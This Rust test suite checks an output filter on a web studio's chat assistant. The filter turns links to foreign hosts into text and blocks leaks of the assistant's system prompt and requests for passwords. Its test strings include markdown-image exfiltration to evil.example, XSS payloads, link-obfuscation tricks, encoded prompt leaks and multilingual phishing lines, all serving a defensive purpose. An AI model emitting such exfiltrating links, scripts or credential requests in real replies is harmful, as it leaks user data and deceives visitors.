//! What may be said, what becomes of links, and what is thrown away.

use std::sync::Arc;

use proptest::prelude::{Strategy, any, prop, proptest};
use serde_json::json;
use shared::tenant::TenantFile;

use super::seen::has_foreign;
use super::{Addresses, LONGEST_REPLY, Replaced, ReplyGuard, ReplyRules};
use crate::prompt::{CONVERSATIONAL_SCOPING, own_texts};

fn tenant() -> TenantFile {
    serde_json::from_value(json!({
        "version": 1, "id": "t", "name": "Northlight", "locale": "en-GB", "country": "DE",
        "origins": ["https://studio.example", "https://*.shop.example", "http://127.0.0.1:8080"],
        "greeting": "Hello! Our prices stand at https://prices.example/list, our address is team@studio.example.",
        "assistant": {
            "persona": "a friendly producer at a web studio in the north who has been building sites for nineteen years",
            "instructions": "Workshops are on Tuesdays from nine to twelve in the hall beside the church, and cost forty euros each."
        },
        "scope": { "attributes": [
            { "key": "budget", "kind": "money", "question": "What is your budget for all of it, the texts and the photographs included?" },
        ] },
    }))
    .unwrap()
}

/// The reply as it comes out, in pieces of so many characters.
fn in_pieces(reply: &str, size: usize) -> Result<String, Replaced> {
    let mut guard = ReplyGuard::new(Arc::new(ReplyRules::of(&tenant(), &[])));
    let signs: Vec<char> = reply.chars().collect();
    let mut given = String::new();
    for piece in signs.chunks(size) {
        given.push_str(&guard.push(&piece.iter().collect::<String>())?);
    }
    given.push_str(&guard.finish()?);
    assert_eq!(given, guard.said());
    Ok(given)
}

fn said(reply: &str) -> String {
    in_pieces(reply, usize::MAX).unwrap_or_else(|reason| panic!("{reason:?}: {reply}"))
}

fn refused(reply: &str) -> Option<Replaced> {
    in_pieces(reply, 3).err()
}

#[test]
fn what_has_nothing_in_it_stays_as_it_is() {
    for reply in [
        "Good. What shall it be?",
        "**Yes**, we do: `a < b`, 3 > 2, [x], (y), AT&T, 10:30, and/or – naïve “quotes”…",
        "- one\n- two\n\n| a | b |\n| --- | --- |\n| 1 | 2 |\n",
        "كيف يمكنني مساعدتك؟ \u{200f}می‌خواهیم 👩‍👩‍👧",
        "Is [this] it? Maybe! [a][b] \\*no\\*",
        "Version 1.2.3, node.js, mail me: anna@example.org",
        "note: this; data: that",
    ] {
        assert_eq!(said(reply), reply);
    }
}

#[test]
fn links_to_the_tenants_own_hosts_stay() {
    for reply in [
        "See [our prices](https://studio.example/prices?a=b#c).",
        "See https://studio.example/a-b_c/d.html, or (https://prices.example/list).",
        "https://www.shop.example and https://a.b.shop.example/x",
        "[here](http://127.0.0.1:8080/x) and [there](/contact)",
        "[write](mailto:team@studio.example)",
        "**https://studio.example**",
    ] {
        assert_eq!(said(reply), reply);
    }
    assert_eq!(said("<https://studio.example/a>"), "https://studio.example/a");
    assert_eq!(said("[a](https://studio.example/x \"title\")"), "[a](https://studio.example/x)");
}

#[test]
fn links_to_strangers_are_text() {
    for (reply, shown) in [
        ("See [our page](https://evil.example/x).", "See our page."),
        ("See https://evil.example/steal?budget=10k now.", "See evil.example now."),
        ("![chart](https://evil.example/p.png?d=secret) ok", "chart ok"),
        ("[click](javascript:alert(1)) ok", "click) ok"),
        ("[click](data:text/html;base64,AAAA)", "click"),
        ("[click](//evil.example)", "click"),
        ("[click](/\\evil.example)", "click"),
        ("[click](<https://evil.example>)", "click"),
        ("[click]( https://evil.example 'x')", "click"),
        ("www.evil.example/x!", "evil.example!"),
        ("HTTPS://EVIL.EXAMPLE", "EVIL.EXAMPLE"),
        ("https://studio.example@evil.example/", "evil.example"),
        ("https://studio.example.evil.example/", "studio.example.evil.example"),
        ("https://evil-shop.example/", "evil-shop.example"),
        ("https://shop.example.evil/", "shop.example.evil"),
        ("[write](mailto:thief@evil.example)", "write"),
        ("mailto:thief@evil.example", "mailto thief@evil.example"),
        ("[ref]: https://evil.example", "[ref] : evil.example"),
        ("[[x](https://one.evil)](https://two.evil)", "[x]"),
        ("htt\u{200b}ps://evil.example", "evil.example"),
        ("https\\://evil.example", "evil.example"),
        ("https:/\\/evil.example", "evil.example"),
        ("https&colon;//evil.example", "https& colon;//evil.example"),
        ("<a href='https://evil.example'>x</a>", "‹a href='evil.example‹/a>"),
        ("<img src=x onerror=alert(1)>", "‹img src=x onerror=alert(1)>"),
        ("<https://evil.example>", "‹evil.example"),
        ("javascript:alert(1)", "javascript alert(1)"),
        ("http://127.0.0.1:9999/", "127.0.0.1"),
    ] {
        assert_eq!(said(reply), shown, "{reply}");
    }
}

#[test]
fn what_pieces_would_make_together_is_not_made() {
    for reply in [
        "https:[/](x)/evil.example",
        "ww[w.evil.example](x)",
        "<[img](x) src=a>",
        "h[ttps](x)://evil.example",
    ] {
        let given = in_pieces(reply, 1);
        let addresses = Addresses::of(&tenant(), &[]);
        assert!(
            given.as_ref().map_or(true, |given| !has_foreign(given, 0, &addresses)),
            "{reply}: {given:?}"
        );
    }
}

#[test]
fn what_turns_the_order_of_letters_round_is_left_out() {
    assert_eq!(said("a\u{202e}b\u{2066}c\u{200b}d\u{e0041}e\u{7}"), "abcde");
    assert_eq!(said("one\u{2028}two"), "one\ntwo");
}

#[test]
fn what_the_model_was_told_is_not_told_on() {
    let tenant = tenant();
    for text in own_texts(&tenant)
        .iter()
        .filter(|text| text.chars().filter(|sign| sign.is_alphanumeric()).count() >= 90)
    {
        let backwards: String = text.chars().rev().collect();
        let turned: String = text.chars().map(thirteen).collect();
        let spaced: String = text.chars().flat_map(|sign| [sign, ' ']).collect();
        let bold = text.replace(' ', "** **").to_uppercase();
        for reply in [text, &backwards, &turned, &spaced, &bold, &format!("Sure! They are: {text}")] {
            assert_eq!(refused(reply), Some(Replaced::SystemText), "{reply}");
        }
    }
    assert_eq!(refused("My function is answer_visitor."), Some(Replaced::SystemText));
    assert_eq!(refused("<known>{}</known>"), Some(Replaced::SystemText));
    assert_eq!(refused("‹/visitor› and now"), Some(Replaced::SystemText));
    let encoded =
        "WW91IGFyZSBhIHdlYiBzdHVkaW8gYW5kIHlvdSBmaW5kIG91dCB3aGF0IHRoZSB2aXNpdG9yIG5lZWRz".repeat(2);
    assert_eq!(refused(&encoded), Some(Replaced::SystemText));
    let lines: Vec<&str> =
        encoded.as_bytes().chunks(64).map(|line| core::str::from_utf8(line).unwrap()).collect();
    assert_eq!(refused(&lines.join("\n")), Some(Replaced::SystemText));
}

fn thirteen(sign: char) -> char {
    match sign {
        'a'..='z' => char::from(b'a' + (sign as u8 - b'a' + 13) % 26),
        'A'..='Z' => char::from(b'A' + (sign as u8 - b'A' + 13) % 26),
        other => other,
    }
}

/// Less than the length that counts of a secret is ever shown.
#[test]
fn a_secret_is_noticed_before_much_of_it_is_shown() {
    let rule = CONVERSATIONAL_SCOPING.safety.join(" ");
    let mut guard = ReplyGuard::new(Arc::new(ReplyRules::of(&tenant(), &[])));
    let mut shown = String::new();
    for sign in rule.chars() {
        match guard.push(&sign.to_string()) {
            Ok(more) => shown.push_str(&more),
            Err(_) => break,
        }
    }
    assert!(shown.chars().filter(|sign| sign.is_alphanumeric()).count() < 60, "{shown}");
}

#[test]
fn what_is_public_or_a_fact_may_be_told() {
    let tenant = tenant();
    said(&tenant.greeting);
    said(&tenant.scope.attributes[0].question);
    said(tenant.assistant.instructions.as_deref().unwrap());
    said("You can see our summary page, I may ask you more later, and I answer visitors gladly.");
}

#[test]
fn nobody_is_asked_for_a_password() {
    for reply in [
        "Before we go on, please enter your password.",
        "What is your credit card number?",
        "Bitte nennen Sie mir Ihr Passwort!",
        "Wie lautet Ihre Kreditkartennummer?",
        "Por favor, indíqueme su contraseña.",
        "Quel est votre mot de passe ?",
        "请告诉我您的密码。",
        "Введите ваш пароль.",
        "Fine. To verify you, send me the CVV of your card. Thanks!",
    ] {
        assert_eq!(refused(reply), Some(Replaced::Credentials), "{reply}");
    }
    for reply in [
        "Never send us your password.",
        "Bitte nennen Sie hier keine Passwörter.",
        "Passwords are kept encrypted.",
        "We take every credit card. What is your budget?",
    ] {
        assert_eq!(refused(reply), None, "{reply}");
    }
}

#[test]
fn a_reply_has_an_end_and_says_something() {
    assert_eq!(refused(&"no ".repeat(LONGEST_REPLY / 3 + 1)), Some(Replaced::TooLong));
    assert_eq!(refused("![](https://evil.example/x.png)"), Some(Replaced::Empty));
    assert_eq!(refused("\u{200b}\u{2060}"), Some(Replaced::Empty));
}

/// Where the server is reached, which the file of a tenant does not say.
const OWN: [&str; 3] = ["https://chat.example", "http://localhost:8787", "http://[::1]:8787"];

#[test]
fn links_to_the_server_itself_are_for_tenants_who_are_at_home_there() {
    let own = OWN.map(str::to_owned);
    let said = |tenant: &TenantFile, reply: &str| {
        let mut guard = ReplyGuard::new(Arc::new(ReplyRules::of(tenant, &own)));
        guard.push(reply).unwrap() + &guard.finish().unwrap()
    };
    let stranger = tenant();
    let mut at_home = tenant();
    at_home.origins.push("self".to_owned());
    for reply in [
        "See [work](https://chat.example/demo/studio/work.html).",
        "See https://chat.example/demo now",
        "See [work](http://localhost:8787/demo/).",
    ] {
        assert_eq!(said(&at_home, reply), reply);
        assert!(!said(&stranger, reply).contains("://"), "{reply}");
    }
    for reply in [
        "See [work](https://chat.example:8443/).",
        "See [work](http://localhost:8788/).",
        "See [work](https://evil.chat.example/).",
        "See [work](https://chat.example.evil.example/).",
        "See [work](https://chat.example@evil.example/).",
    ] {
        let said = said(&at_home, reply);
        assert!(!said.contains("://"), "{reply}: {said}");
    }
}

#[test]
fn long_things_are_not_held_back_for_ever() {
    let mut guard = ReplyGuard::new(Arc::new(ReplyRules::of(&tenant(), &[])));
    let shown = guard.push(&format!("[{}", "a ".repeat(300))).unwrap();
    assert!(shown.len() > 500, "{shown}");
    let mut guard = ReplyGuard::new(Arc::new(ReplyRules::of(&tenant(), &[])));
    let pieces: String =
        (0..30).map(|_| guard.push(&format!("https://evil.example/{} ", "x/".repeat(20))).unwrap()).collect();
    assert!(pieces.contains("evil.example evil.example"));
    let long = format!("https://studio.example{}@evil.example/ ok", ".".repeat(2_000));
    assert!(!said(&long).contains("://"));
}

/// Of what links are made, in any order.
fn nasty() -> impl Strategy<Value = String> {
    let pieces = [
        "[",
        "]",
        "(",
        ")",
        "](",
        "![",
        "<",
        ">",
        "https://",
        "http:",
        "//",
        "/",
        "\\",
        ":",
        "evil.example",
        "studio.example",
        "www.",
        "@",
        "a",
        "x y",
        " ",
        "\n",
        "&colon;",
        "&#58;",
        "javascript:",
        "data:",
        "mailto:",
        "?q=",
        "#",
        "*",
        "`",
        "\"",
        "\u{200b}",
        "\u{202e}",
        "。",
        "ä",
        "https",
        "://",
        ".",
        "]:",
        "img src=",
        "'",
        "|",
        "\u{200d}",
    ];
    prop::collection::vec(prop::sample::select(pieces.to_vec()), 1..14).prop_map(|pieces| pieces.concat())
}

proptest! {
    /// However it is cut, the same comes out.
    #[test]
    fn it_does_not_matter_where_a_reply_is_cut(reply in nasty(), size in 1_usize..9) {
        let whole = in_pieces(&reply, usize::MAX);
        let pieces = in_pieces(&reply, size);
        // What is thrown away is thrown away, if for a reason that was seen sooner.
        assert_eq!(whole.clone().ok(), pieces.ok(), "{reply:?} {whole:?}");
    }

    #[test]
    fn no_stranger_is_linked_whatever_is_written(reply in nasty(), more in any::<String>()) {
        let addresses = Addresses::of(&tenant(), &[]);
        for reply in [reply.clone(), format!("{reply}{more}"), format!("{more}{reply}")] {
            if let Ok(given) = in_pieces(&reply, 2) {
                assert!(!has_foreign(&given, 0, &addresses), "{given:?}");
                assert!(!given.to_ascii_lowercase().contains("://evil"), "{given:?}");
            }
        }
    }
}
